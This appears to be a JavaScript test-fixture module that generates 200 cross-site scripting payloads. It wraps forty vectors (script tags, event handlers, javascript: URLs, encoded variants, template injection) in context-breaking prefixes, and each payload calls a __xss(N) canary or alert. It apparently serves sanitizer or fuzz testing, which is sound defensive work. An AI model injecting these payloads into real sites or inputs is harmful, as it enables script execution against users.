// SPDX-License-Identifier: AGPL-3.0-or-later
// 200 hostile strings: vectors that call window.__xss(number) or open a dialog, each in several wrappings that leave a context.
const call = "window.__xss&&__xss(N)||alert(N)";
const vectors = [
  `<script>${call}</script>`, `<img src=x onerror="${call}">`, `<svg onload="${call}">`, `<svg><script>${call}</script></svg>`, `<body onload="${call}">`,
  `<iframe srcdoc="<script>parent.__xss(N)</script>"></iframe>`, `<iframe src="javascript:parent.__xss(N)"></iframe>`, `<details open ontoggle="${call}"><summary>x</summary></details>`,
  `<input autofocus onfocus="${call}">`, `<select autofocus onfocus="${call}"></select>`, `<textarea autofocus onfocus="${call}"></textarea>`, `<video><source onerror="${call}"></video>`,
  `<audio src=x onerror="${call}">`, `<object data="javascript:__xss(N)"></object>`, `<embed src="javascript:__xss(N)">`, `<math><mtext><img src=x onerror="${call}"></mtext></math>`,
  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${call}">x</b>`, `<link rel=stylesheet href="javascript:__xss(N)">`, `<meta http-equiv=refresh content="0;url=javascript:__xss(N)">`,
  `<base href="javascript:__xss(N)//">`, `<form action="javascript:__xss(N)"><button>x</button></form>`, `<a href="javascript:__xss(N)">x</a>`, `<marquee onstart="${call}">x</marquee>`,
  `<template><script>${call}</script></template>`, `<noscript><p title="</noscript><img src=x onerror='${call}'>">`, `<xss contenteditable onfocus="${call}" autofocus tabindex=1>`,
  `<img/src/onerror=${call.replace(/&&/g, "&amp;&amp;")}>`, `<ScRiPt>${call}</sCrIpT>`, `<scr<script>ipt>${call}</scr</script>ipt>`, `&lt;script&gt;${call}&lt;/script&gt;`,
  `&#60;img src=x onerror=__xss(N)&#62;`, `\\u003cimg src=x onerror=__xss(N)\\u003e`, `{{constructor.constructor('__xss(N)')()}}`, `\${__xss(N)}`, `%3Cscript%3E__xss(N)%3C/script%3E`,
  `＜script＞__xss(N)＜/script＞`, `=HYPERLINK("javascript:__xss(N)","x")`, `javascript:__xss(N)`, `data:text/html,<script>parent.__xss(N)</script>`, `x onmouseover=__xss(N) autofocus onfocus=__xss(N) tabindex=1`,
];
const wrappings = [(v) => v, (v) => `">${v}`, (v) => `'>${v}`, (v) => `</title></textarea></script></style></option></svg>-->${v}`, (v) => `" autofocus onfocus="__xss(N)" x="${v}`];
export const payloads = wrappings.flatMap((w) => vectors.map((v) => w(v))).map((s, i) => s.replaceAll("(N)", `(${i + 1})`));
